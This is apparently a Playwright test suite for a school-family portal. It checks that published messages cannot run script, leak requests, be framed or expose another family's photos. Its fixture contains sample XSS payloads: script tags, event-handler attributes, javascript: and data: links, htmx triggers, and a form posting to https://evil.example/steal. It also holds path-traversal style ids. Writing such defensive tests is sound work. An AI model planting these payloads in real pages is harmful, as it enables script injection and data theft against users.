import assert from "node:assert/strict";
import { beforeEach, describe, it } from "node:test";
import type { BrowserContext, Page } from "playwright-core";
import { keys } from "../../portal/keys.ts";
import { everyItem } from "../../portal/store/object-store.ts";
import { landscape } from "../app-notices.ts";
import { type Family, UAI } from "../app-school.ts";
import { Stage } from "../app-visit.ts";

/** What a sanitiser that failed would let through, and what a file may pretend to be: the app must not run it. */
const markup = `
<p>Un mot piégé <span id="trap">ici</span></p>
<script>window.pwned = "script"</script>
<img src="x" onerror="window.pwned='img'">
<img src="https://evil.example/pixel.png" alt="">
<svg onload="window.pwned='svg'"><animate onbegin="window.pwned='animate'" attributeName="x" dur="1s"></animate></svg>
<iframe srcdoc="<script>parent.pwned='frame'</script>"></iframe>
<object data="data:text/html,<script>parent.pwned='object'</script>"></object>
<link rel="stylesheet" href="https://evil.example/x.css"><style>body{background:url(https://evil.example/bg.png)}</style>
<video poster="https://evil.example/poster.png" src="https://evil.example/film.mp4" autoplay></video>
<div hx-get="/app/hx-was-here" hx-trigger="load">hx</div>
<div data-hx-get="/app/hx-data-was-here" data-hx-trigger="load" hx-on::load="window.pwned='hx-on'">hx</div>
<div id="annonces" hx-swap-oob="true">oob</div>
<form action="https://evil.example/steal" method="post"><button id="leave">Envoyer</button></form>
<a id="js" href="javascript:window.pwned='link'">a</a>
<a id="data" href="data:text/html,<script>1</script>">b</a>
<details open ontoggle="window.pwned='toggle'"><summary>c</summary></details>`;

describe("what the app shows cannot act", () => {
  const stage = Stage.set();
  let family: Family;
  let context: BrowserContext;
  let page: Page;

  const shows = (text: string) => page.getByText(text).first().waitFor({ timeout: 15_000 });

  beforeEach(async () => {
    stage.school.startClass();
    family = await stage.school.admit("M. Karim Benali", ["Imran Benali"]);
  });

  it("scripts, frames, forms, foreign addresses and htmx attributes in a text: nothing runs, nothing leaves", async () => {
    const { entry } = await stage.school.publish({ title: "Un mot piégé", body: markup });
    ({ context, page } = await stage.visitor(family));
    const abroad: string[] = [];
    context.on("request", (request) => {
      if (!request.url().startsWith(stage.portal.url) && /^https?:/.test(request.url())) abroad.push(request.url());
    });
    const reached: string[] = [];
    context.on("requestfinished", (request) => void reached.push(request.url()));
    await shows("Un mot piégé");
    await page.goto(`${stage.portal.url}/e/${UAI}#mot/${entry.id}`);
    await page.locator("#trap").waitFor();
    for (const id of ["leave", "js", "data"]) await page.locator(`#${id}`).click({ force: true });
    await page.reload();
    await page.locator("#trap").waitFor();
    assert.equal(await page.evaluate("window.pwned"), undefined);
    assert.ok(page.url().startsWith(`${stage.portal.url}/e/${UAI}`), page.url());
    assert.deepEqual(
      reached.filter((url) => abroad.includes(url)),
      [],
    );
    assert.equal(
      stage.portal.requests.some(({ url }) => url.includes("was-here")),
      false,
    );
    assert.equal((await page.locator("#annonces").count()) >= 1, true);
  });

  it("a link to another site: opened without telling where from", async () => {
    const { entry } = await stage.school.publish({
      title: "Un lien",
      body: `<p><a href="https://musee.example/">Le musée</a></p>`,
    });
    ({ context, page } = await stage.visitor(family));
    await context.route("https://musee.example/**", (route) =>
      route.fulfill({ contentType: "text/html; charset=utf-8", body: "<h1>Musée</h1>" }),
    );
    await shows("Un lien");
    await page.goto(`${stage.portal.url}/e/${UAI}#mot/${entry.id}`);
    const asked = context.waitForEvent("request", (request) => request.url().startsWith("https://musee.example/"));
    await page.getByRole("link", { name: "Le musée" }).first().click();
    assert.equal((await (await asked).allHeaders()).referer, undefined);
    await page.getByRole("heading", { name: "Musée" }).waitFor();
    assert.equal(await page.evaluate("window.opener"), null);
    assert.equal(await page.evaluate("document.referrer"), "");
  });

  it("what the worker decrypts: never kept, never a document, never of another type, never for another account", async () => {
    const { entry } = await stage.school.publish({ title: "Une photo" }, { photos: [await landscape(20)] });
    ({ context, page } = await stage.visitor(family));
    await shows("Une photo");
    const object = entry.media[0]?.object ?? assert.fail("no photo");
    const answer = async (path: string) =>
      page.evaluate(async (url) => {
        const response = await fetch(url);
        return { status: response.status, headers: Object.fromEntries(response.headers) };
      }, path);
    const photo = await answer(`/e/${UAI}/media/${object}`);
    assert.equal(photo.status, 200);
    assert.equal(photo.headers["content-type"], "image/webp");
    assert.equal(photo.headers["x-content-type-options"], "nosniff");
    assert.equal(photo.headers["cache-control"], "no-store");
    assert.match(photo.headers["content-security-policy"] ?? "", /default-src 'none'.*sandbox/);
    const fragment = await answer(`/e/${UAI}/vue/page`);
    assert.equal(fragment.headers["cache-control"], "no-store");
    assert.match(fragment.headers["content-security-policy"] ?? "", /script-src 'self'(;|$)/);
    for (const odd of ["__proto__", "..%2f..%2fapi", "", "0".repeat(32)])
      assert.ok((await answer(`/e/${UAI}/media/${odd}`)).status >= 400, odd);

    const other = await stage.school.admit("Mme Ana Silva", ["Tiago Silva"]);
    const channel = other.children[0]?.channel ?? assert.fail("no child");
    const theirs = await stage.school.publish({ title: "Pour Tiago" }, { photos: [await landscape(90)], to: channel });
    const second = await context.newPage();
    await second.goto(stage.link(other));
    await second.getByText("Pour Tiago").first().waitFor({ timeout: 15_000 });
    const foreign = theirs.entry.media[0]?.object ?? assert.fail("no photo");
    assert.equal((await answer(`/e/${UAI}/media/${foreign}`)).status, 404, "from the first account’s window");
    await page.reload();
    await shows("Une photo");
    assert.equal(await page.getByText("Pour Tiago").count(), 0);

    await page.goto(`${stage.portal.url}/e/${UAI}/media/${object}`);
    await page.locator("#contenu").waitFor();
    const cached: string[] = await page.evaluate(`(async () => {
      const found = [];
      for (const name of await caches.keys())
        for (const { url } of await (await caches.open(name)).keys()) found.push(new URL(url).pathname);
      return found;
    })()`);
    assert.ok(cached.length > 0 && cached.every((path) => /^\/(app|static)\//.test(path)), cached.join(" "));
  });

  it("a page of another site can neither frame the app nor read its answers", async () => {
    ({ context, page } = await stage.visitor(family));
    await page.locator("#contenu h1, #contenu").first().waitFor();
    const evil = await context.newPage();
    await evil.route("http://evil.example/**", (route) =>
      route.fulfill({ contentType: "text/html", body: `<iframe src="${stage.portal.url}/e/${UAI}"></iframe>` }),
    );
    await evil.goto("http://evil.example/");
    const outcome = await evil.evaluate(async (url) => {
      const read = (path: string) =>
        fetch(url + path).then(
          (answer) => answer.type,
          () => "refused",
        );
      return [await read("/e/0690078K"), await read("/api/0690078K/keyring"), await read("/sante")];
    }, stage.portal.url);
    assert.deepEqual(outcome, ["refused", "refused", "refused"]);
    const framed = evil.frames().find((frame) => frame !== evil.mainFrame());
    assert.equal(
      await framed
        ?.locator("#contenu")
        .count()
        .catch(() => 0),
      0,
    );
  });

  it("a page, or everything, kept back by the portal: what was read stays, also after the line is gone", async () => {
    const { portal, school } = stage;
    await school.publish({ title: "Un mot déjà lu" });
    ({ context, page } = await stage.visitor(family));
    await shows("Un mot déjà lu");
    const at = keys.of(UAI);
    const before = new Set<string>();
    const objects = `schools/${UAI}/objects/`;
    for await (const { key } of everyItem(portal.store, objects)) before.add(key);
    await school.publish({ title: "Un mot gardé par le serveur" });
    for await (const { key } of everyItem(portal.store, objects)) if (!before.has(key)) await portal.store.delete(key);
    await page.reload();
    await shows("Un mot déjà lu");
    for await (const { key } of everyItem(portal.store, objects)) await portal.store.delete(key);
    await portal.store.delete(at.schoolHead);
    await page.reload();
    await shows("Un mot déjà lu");
    await stage.cut(context);
    await page.reload();
    await shows("Un mot déjà lu");
    await stage.mend(context);
  });
});
